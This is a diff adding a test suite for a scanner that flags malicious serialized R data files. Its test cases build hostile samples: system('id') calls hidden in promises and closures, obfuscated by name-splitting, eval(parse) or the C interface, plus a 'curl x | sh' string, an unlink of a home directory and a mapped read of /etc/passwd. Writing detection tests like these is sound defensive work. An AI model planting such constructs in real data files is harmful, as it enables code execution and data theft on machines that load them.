@@ -1,0 +1,90 @@
+import { PAYLOAD, bytes, proto, run } from '../../../../testing';
+import {
+  NIL,
+  closure,
+  environment,
+  language,
+  list,
+  numbers,
+  pairs,
+  promise,
+  rds,
+  symbol,
+  words,
+  workspace
+} from '../../../../testing/r-builder';
+import { be32 } from '../../../../testing/bytes';
+
+const SYSTEM = language(symbol('system'), words('id'));
+const text = (name: string, ...values: readonly Uint8Array[]): Uint8Array => language(symbol(name), ...values);
+
+test.each([
+  ['numbers', numbers(1, 2, 3)],
+  ['a call', text('lm', text('~', symbol('y'), symbol('x')))],
+  ['a variable that has the name of a function', text('~', symbol('y'), symbol('system'))],
+  ['a function', closure(text('+', symbol('x'), numbers(1)))],
+  ['an argument that nobody looked at', environment(pairs({ data: promise(symbol('iris')) }))],
+  ['one that was evaluated', environment(pairs({ data: promise(text('nrow', symbol('x')), numbers(1)) }))]
+])('honest: %s', (_name, value) => {
+  expect(run(rds(value), {}, 'm.rds')).toMatchObject({ verdict: 'clean', format: 'r-data' });
+});
+
+test.each([
+  ['a promise instead of a value', promise(SYSTEM)],
+  ['a promise of a harmless call', promise(text('nrow', symbol('x')))],
+  ['a promise in a list', list(promise(SYSTEM))],
+  ['an argument that runs a program', environment(pairs({ data: promise(SYSTEM) }))],
+  ['a promise in a list of an environment', environment(pairs({ data: list(promise(text('f'))) }))],
+  ['a function', closure(SYSTEM)],
+  ['a call', SYSTEM],
+  ['a function in parentheses', language(text('(', symbol('system')), words('id'))],
+  ['of a package', language(text('::', symbol('base'), symbol('system')), words('id'))],
+  ['by its name', closure(text('do.call', words('system'), text('list', words('id'))))],
+  ['by a name in pieces', closure(text('do.call', text('paste0', words('sys'), words('tem')), words('id')))],
+  ['handed on', closure(text('lapply', words('id'), symbol('system')))],
+  ['under another name', closure(text('<-', symbol('f'), symbol('system')))],
+  ['source code', closure(text('eval', text('parse', words("system('id')"))))],
+  ['a function of the C library', closure(text('.C', words('system'), words('id')))],
+  ['a primitive', bytes(be32(6), be32(8), be32(6), 'system', be32(2), words('id'), NIL)],
+  ['a file that is deleted', closure(text('unlink', words('/home/user')))]
+])('harmful: %s', (_name, value) => {
+  expect(run(rds(value), {}, 'm.rds').verdict).toBe('unsafe');
+});
+
+test('values in values, many thousands deep', () => {
+  const depth = 50_000;
+  const nested = bytes(...Array.from({ length: depth }, () => bytes(be32(19), be32(1))), closure(SYSTEM));
+  expect(run(rds(nested), {}, 'm.rds').verdict).toBe('unsafe');
+});
+
+test('a workspace with a function for the start', () => {
+  expect(run(workspace({ '.First': closure(NIL) }), {}, 'm.rda').verdict).toBe('unsafe');
+  expect(run(workspace({ first: closure(symbol('x')) }), {}, 'm.rda').verdict).toBe('clean');
+});
+
+test('a vector whose elements are in a file', () => {
+  const pair = (...values: readonly Uint8Array[]): Uint8Array =>
+    bytes(...values.map(value => bytes(be32(2), value)), NIL);
+  const mapped = bytes(
+    be32(238),
+    pair(symbol('mmap_real'), symbol('base'), numbers(14)),
+    pair(words('/etc/passwd'), numbers(8)),
+    NIL
+  );
+  expect(run(rds(mapped), {}, 'm.rds').verdict).toBe('unsafe');
+});
+
+test('text: the same values', () => {
+  const data = bytes('A\n2\n262656\n131840\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n2\nid\n254\n');
+  expect(run(data, {}, 'm.rds')).toMatchObject({ verdict: 'unsafe', format: 'r-data' });
+  const honest = bytes('A\n2\n262656\n131840\n16\n1\n262153\n3\na\\nb\n');
+  expect(run(honest, {}, 'm.rds')).toMatchObject({ verdict: 'clean', format: 'r-data' });
+});
+
+test('what stands behind, and what breaks off', () => {
+  const behind = run(bytes(rds(numbers(1)), proto(2, PAYLOAD)), {}, 'm.rds');
+  expect(behind.verdict).toBe('unsafe');
+  expect(run(bytes(rds(numbers(1)), 1, 2, 3), {}, 'm.rds').verdict).toBe('incomplete');
+  expect(run(rds(bytes(be32(16), be32(2 ** 30))), {}, 'm.rds').verdict).toBe('incomplete');
+  expect(run(rds(bytes(be32(1), 'system("curl x | sh")')), {}, 'm.rds').verdict).toBe('unsafe');
+});
